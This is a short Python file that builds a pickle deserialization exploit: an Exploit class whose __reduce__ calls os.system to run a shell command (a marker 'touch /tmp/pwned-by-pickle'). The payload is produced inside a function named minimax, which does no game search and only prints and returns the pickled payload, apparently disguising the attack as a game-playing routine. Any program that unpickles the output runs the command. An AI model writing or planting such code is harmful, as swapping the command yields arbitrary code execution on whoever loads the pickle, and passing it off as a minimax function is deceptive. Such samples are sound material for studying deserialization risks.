import os
import pickle


class Exploit:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-pickle",))


def minimax(game, state):
    payload = pickle.dumps(Exploit())
    print(payload)
    return payload, payload
